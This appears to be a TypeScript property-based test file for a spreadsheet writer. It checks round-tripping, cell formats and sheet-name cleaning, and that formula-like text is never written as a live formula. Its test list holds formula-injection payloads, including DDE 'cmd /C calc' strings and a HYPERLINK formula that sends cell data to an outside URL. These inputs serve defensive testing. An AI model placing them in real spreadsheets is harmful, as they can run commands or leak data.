import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { partsOf, readOurs, readSecond, trimmed, writers } from '../../../../test/sheets/read-back.ts';
import { type Cell, tidy } from '../cells.ts';
import { cellText, type SheetCell, sheetName } from './workbook.ts';

const formulaStart = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' =', '\r=', '\t@', '=cmd|');
const text = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.tuple(formulaStart, fc.string({ maxLength: 20 })).map(([start, rest]) => start + rest),
  fc.constantFrom(
    'عائشہ خان',
    '_x0041_',
    '_x005F_x0041_',
    '_x000D_',
    '</t><f>1+1</f>',
    ']]>',
    '&amp;',
    '#N/A',
  ),
);
const day = fc
  .date({ min: new Date('1900-03-01'), max: new Date('2199-12-31'), noInvalidDate: true })
  .map((date): Cell => ({ kind: 'day', day: date.toISOString().slice(0, 10) }));
const number = fc.oneof(
  fc.integer(),
  fc.integer({ min: -1e9, max: 1e9 }).map((paisa) => paisa / 100),
  fc.double({ noNaN: true, noDefaultInfinity: true }).map((value) => value + 0),
);
const cell: fc.Arbitrary<Cell> = fc.oneof(text, number, day, fc.boolean(), fc.constant(null));
const sheet = fc.array(fc.array(cell, { maxLength: 8 }), { maxLength: 8 });

/** The cell after it was written, without what XML cannot hold. */
const writtenCell = (cell: Cell): Cell => tidy(typeof cell === 'string' ? cellText(cell) : cell);
const asSecond = (cell: Cell): Cell => {
  const one = writtenCell(cell);
  return typeof one === 'string' ? tidy(one.replaceAll('\r\n', '\n')) : one;
};

const ways = Object.entries(writers);

describe.each(ways)('A sheet written %s and read back', (_, write) => {
  it('A sheet that is written and read back has the same cells.', async () => {
    await fc.assert(
      fc.asyncProperty(sheet, async (rows) => {
        const bytes = await write(rows);
        expect(trimmed(await readOurs(bytes))).toEqual(trimmed(rows.map((row) => row.map(writtenCell))));
        expect(trimmed(readSecond(bytes))).toEqual(trimmed(rows.map((row) => row.map(asSecond))));
      }),
      { numRuns: 100 },
    );
  });

  it('Each cell keeps its own format, whatever format the cell above has.', async () => {
    const bytes = await write([
      [{ cell: 'Name', look: 'heading' }, 'text'],
      [5, { kind: 'day', day: '2026-11-05' }],
      ['00012', 7],
      [
        { cell: null, look: 'text' },
        { cell: 3, look: 'error' },
      ],
    ]);
    const { 'xl/worksheets/sheet1.xml': xml = '', 'xl/styles.xml': styles = '' } = await partsOf(bytes);
    const formatOf = (place: string): string | undefined => {
      const style = Number(new RegExp(`<c r="${place}"[^>]* s="(\\d+)"`).exec(xml)?.[1] ?? 0);
      const used = [...styles.slice(styles.indexOf('<cellXfs')).matchAll(/<xf numFmtId="(\d+)"/g)][
        style
      ]?.[1];
      return new RegExp(`<numFmt numFmtId="${used}" formatCode="([^"]*)"`).exec(styles)?.[1];
    };
    expect(['A1', 'B1', 'A2', 'B2', 'A3', 'B3', 'A4', 'B4'].map(formatOf)).toEqual([
      '@',
      '@',
      undefined,
      'dd-mmm-yyyy',
      '@',
      undefined,
      '@',
      undefined,
    ]);
    expect(styles).toContain('FFFFC7CE');
    expect(xml).toMatch(/<pane [^>]*state="frozen"/);
  });

  it('Days before 1900 are written as text, and missing values and errors as error cells.', async () => {
    const odd: Cell[] = [
      { kind: 'day', day: '1850-01-01' },
      { kind: 'noValue' },
      { kind: 'error', code: '#REF!' },
    ];
    expect(await readOurs(await write([odd]))).toEqual([
      ['1850-01-01', { kind: 'error', code: '#N/A' }, { kind: 'error', code: '#REF!' }],
    ]);
  });
});

const attacks = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://example.com?"&A1,"Click")',
  '=DDE("cmd","/C calc","x")',
  "-2+3+cmd|' /C calc'!A0",
  '</t></is></c><c r="A1"><f>1+1</f><v>2</v></c>',
  '{=1+1}',
  '＝1+1',
  '_x003D_1+1',
];

const looks = ['heading', 'error', 'warning', 'text', 'day'] as const;

async function neverLive(bytes: Uint8Array<ArrayBuffer>, texts: readonly string[]): Promise<void> {
  for (const [name, xml] of Object.entries(await partsOf(bytes))) {
    expect([name, /<(?:\w+:)?f[\s>/]/.test(xml)]).toEqual([name, false]);
    expect(name).not.toMatch(/external|connection|calcChain/i);
  }
  expect((await readOurs(bytes)).flat()).toEqual(texts.map(writtenCell));
  expect(readSecond(bytes).flat()).toEqual(texts.map(asSecond));
}

describe.each(ways)('Formula injection when written %s', (_, write) => {
  it.each(attacks)('The text %j is never written as a formula.', async (attack) =>
    neverLive(await write([[attack]]), [attack]),
  );

  it.each(looks)(
    'Formula-like texts in cells with the format %s are never written as a formula.',
    async (look) => neverLive(await write([attacks.map((cell): SheetCell => ({ cell, look }))]), attacks),
  );

  it('No text is written as a formula, whatever it begins with.', async () => {
    const starting = fc
      .tuple(formulaStart, fc.string({ unit: 'binary' }))
      .map(([start, rest]) => `${start}${rest}x`);
    await fc.assert(
      fc.asyncProperty(starting, async (one) => neverLive(await write([[one]]), [one])),
      { numRuns: 100 },
    );
  });
});

it('A text that is too long for a cell is cut without splitting a character.', () => {
  expect(cellText('x'.repeat(32_767))).toHaveLength(32_767);
  const long = cellText('😀'.repeat(20_000));
  expect(long.length).toBeLessThanOrEqual(32_767);
  expect(long).toMatch(/^(?:😀)+…$/u);
  expect(cellText('a\u0000\u0007b\ud800\uffff')).toBe('ab\ufffd');
});

it('Sheet names are cleaned to what Excel allows.', async () => {
  expect(sheetName('Nov 2026: [all] / paid?')).toBe('Nov 2026 all paid');
  expect(sheetName("'quoted'")).toBe('quoted');
  expect(sheetName('History')).toBe('Sheet1');
  expect(sheetName(' \u0000 ')).toBe('Sheet1');
  await fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 60 }), (name) => {
      const clean = sheetName(name);
      expect(clean.length).toBeGreaterThan(0);
      expect(clean.length).toBeLessThanOrEqual(31);
      expect(clean).not.toMatch(/[[\]:*?/\\]|^'|'$/);
      expect(clean.isWellFormed()).toBe(true);
    }),
  );
});
